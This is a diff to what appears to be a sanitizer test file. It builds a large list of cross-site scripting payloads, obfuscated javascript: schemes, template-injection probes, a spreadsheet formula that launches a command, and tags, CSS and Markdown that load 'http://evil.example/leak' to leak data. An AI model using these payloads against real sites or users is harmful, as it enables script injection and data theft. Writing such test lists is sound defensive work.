@@ -2,7 +2,7 @@
 
 HOST = "evil.example"
 
-PAYLOADS = (
+_BY_HAND = (
     "<script>alert(1)</script>",
     "</script><script>alert(1)</script>",
     '<img src=x onerror="alert(1)">',
@@ -38,6 +38,45 @@ PAYLOADS = (
     "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
     f'<div style="background:url(http://{HOST}/bg.png)">styled</div>',
     "\u202egnp.live\u202c [1] [2] [999]",
+)
+
+_TAGS = ("img", "svg", "video", "audio", "input", "details", "body", "iframe", "object", "marquee")
+_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseenter", "onanimationstart", "onpointerover")
+_SCHEMES = ("javascript://%0a", "JaVaScRiPt:", "java&#10;script:", "&#106;avascript:", "data:text/html,", "vbscript:",
+            "  javascript:", "\x01javascript:")  # fmt: skip
+_LOADS = (
+    'img srcset="{}"', 'input type=image src="{}"', 'video poster="{}"', 'link rel=preload as=image href="{}"',
+    'link rel=dns-prefetch href="{}"', 'script src="{}"', 'embed src="{}"', 'source srcset="{}"', 'use href="{}"',
+    'image xlink:href="{}"', 'table background="{}"', 'a ping="{}" href="#"', 'img loading=eager src="{}"',
+    'frame src="{}"', 'portal src="{}"', 'svg><feImage href="{}"',
+)  # fmt: skip
+_STYLES = (
+    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>", '<p style="list-style:url({})">x</p>',
+    "<style>a{{background:image-set(url({}) 1x)}}</style>", '<i style="cursor:url({}),auto">x</i>',
+    "<style>@import '{}';</style>", '<p style="content:url({})">x</p>',
+)  # fmt: skip
+_MARKDOWN = ('![a]({} "t")', "[a][1]\n\n[1]: {}", "<{}>", "[a](<{}>)", "![a][1]\n\n[1]: <{}>", "||![a]({})||",
+             "[^1]\n\n[^1]: ![a]({})")  # fmt: skip
+_TEMPLATES = (
+    "{{7*7}}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "[[${7*7}]]",
+    "{%import os%}",
+    "=cmd|'/c calc'!A1",
+    "\x1b[31mred",
+)
+_ADDRESS = f"http://{HOST}/leak"
+
+PAYLOADS = (
+    *_BY_HAND,
+    *(f"<{tag} src=x {event}=alert(1) autofocus open>" for tag in _TAGS for event in _EVENTS),
+    *(f'<a href="{scheme}alert(1)">click</a>' for scheme in _SCHEMES),
+    *(f"<{load.format(_ADDRESS)}>" for load in _LOADS),
+    *(style.format(_ADDRESS) for style in _STYLES),
+    *(text.format(_ADDRESS) for text in _MARKDOWN),
+    *_TEMPLATES,
 )
 
 URLS = (
